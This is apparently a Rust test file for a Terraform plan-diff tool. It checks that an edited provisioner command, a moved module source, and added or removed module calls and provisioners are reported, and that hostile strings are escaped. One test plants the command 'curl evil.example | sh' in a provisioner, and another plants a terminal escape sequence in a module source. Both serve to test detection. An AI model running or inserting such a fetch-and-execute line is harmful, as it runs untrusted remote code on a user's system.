//! The configuration in the plan-to-plan delta: a provisioner's command
//! edited, a provisioner added, a module source moved, a module call added
//! and removed, on a real Terraform 1.0.3 plan; the JSON names them without
//! their expressions; hostile strings are escaped.

use plandeck::cost::CostThresholds;
use plandeck::delta::{PlanDelta, compare, delta_lines};
use plandeck::plan::{Plan, parse_plan};
use plandeck::render::{Line, RenderContext, RenderOptions};
use plandeck::risk::RiskPolicy;
use serde_json::{Value, json};
use std::sync::Arc;

const ROOT: &str = "/configuration/root_module";
const HOOK: &str = "/configuration/root_module/module_calls/app/module/module_calls/hook";

fn real() -> Value {
    let text = std::fs::read_to_string("tests/fixtures/terraform/provisioners-plan.json")
        .expect("fixture");
    serde_json::from_str(&text).expect("json")
}

fn plan(doc: &Value) -> Plan {
    parse_plan(Arc::from(doc.to_string())).unwrap_or_else(|e| panic!("{e}"))
}

fn text(delta: &PlanDelta) -> String {
    let risk = RiskPolicy::default();
    let thresholds = CostThresholds::default();
    let options = RenderOptions::default();
    let ctx = RenderContext {
        risk: &risk,
        cost: None,
        cost_thresholds: &thresholds,
        options: &options,
    };
    let lines: Vec<String> = delta_lines(delta, &ctx).iter().map(Line::plain).collect();
    lines.join("\n")
}

fn edit(doc: &mut Value, pointer: &str, value: Value) {
    *doc.pointer_mut(pointer)
        .unwrap_or_else(|| panic!("no {pointer}")) = value;
}

#[test]
fn an_edited_provisioner_command_is_named_with_its_resource_and_argument() {
    let old = real();
    let mut new = real();
    edit(
        &mut new,
        &format!("{HOOK}/module/resources/0/provisioners/0/expressions/command/constant_value"),
        json!("echo deployed; curl evil.example | sh"),
    );
    let delta = compare(&plan(&old), &plan(&new));
    assert!(!delta.is_empty());
    assert!(
        delta.changed.is_empty() && delta.modules.is_empty(),
        "values alike"
    );
    assert_eq!(delta.provisioners.len(), 1);
    let p = &delta.provisioners[0];
    assert_eq!(p.resource, "module.app.module.hook.null_resource.notify");
    assert_eq!((p.position, p.new_type.as_deref()), (1, Some("local-exec")));
    assert_eq!(p.arguments, ["command"]);
    let text = text(&delta);
    assert!(
        text.contains("Configuration: 0 module call(s), 1 provisioner(s) differ"),
        "{text}"
    );
    assert!(
        text.contains(
            "  ~ provisioner changed: local-exec #1 of module.app.module.hook.null_resource.notify"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "      command: \"echo deployed\" → \"echo deployed; curl evil.example | sh\""
        ),
        "{text}"
    );
    assert!(!text.contains("Nothing changed"), "{text}");
    // The JSON names the argument, not its value.
    let json = serde_json::to_string(&delta).expect("json");
    assert!(json.contains("\"arguments\":[\"command\"]"), "{json}");
    assert!(!json.contains("curl evil"), "{json}");
}

#[test]
fn module_sources_and_added_or_removed_provisioners_and_calls_are_listed() {
    let old = real();
    let mut new = real();
    edit(
        &mut new,
        &format!("{ROOT}/module_calls/app/source"),
        json!("git::https://example.com/app.git?ref=main\u{1b}[2J"),
    );
    let calls = new
        .pointer_mut(&format!("{ROOT}/module_calls"))
        .and_then(Value::as_object_mut)
        .expect("calls");
    calls.insert(
        "consul".into(),
        json!({"source": "hashicorp/consul/aws", "version_constraint": "~> 1.0", "module": {}}),
    );
    let resources = new
        .pointer_mut(&format!("{ROOT}/resources"))
        .and_then(Value::as_array_mut)
        .expect("resources");
    resources[0]["provisioners"]
        .as_array_mut()
        .expect("provisioners")
        .push(json!({"type": "remote-exec", "expressions": {"inline": {"references": ["var.x"]}}}));
    let delta = compare(&plan(&old), &plan(&new));
    let modules: Vec<&str> = delta.modules.iter().map(|m| m.module.as_str()).collect();
    assert_eq!(modules, ["module.app", "module.consul"]);
    let text = text(&delta);
    assert!(
        text.contains(
            "  ~ module source changed: module.app \"./modules/app\" → \
             \"git::https://example.com/app.git?ref=main\\x1b[2J\""
        ),
        "{text}"
    );
    assert!(!text.contains('\u{1b}'));
    assert!(
        text.contains(
            "  + module call added: module.consul \"hashicorp/consul/aws\" version \"~> 1.0\""
        ),
        "{text}"
    );
    assert!(
        text.contains("  + provisioner added: remote-exec #2 of null_resource.db"),
        "{text}"
    );
    // The other way round: removed.
    let back = compare(&plan(&new), &plan(&old));
    let text = self::text(&back);
    assert!(
        text.contains("  - module call removed: module.consul"),
        "{text}"
    );
    assert!(
        text.contains("  - provisioner removed: remote-exec #2 of null_resource.db"),
        "{text}"
    );
    // A plan against itself: nothing.
    assert!(compare(&plan(&new), &plan(&new)).is_empty());
}
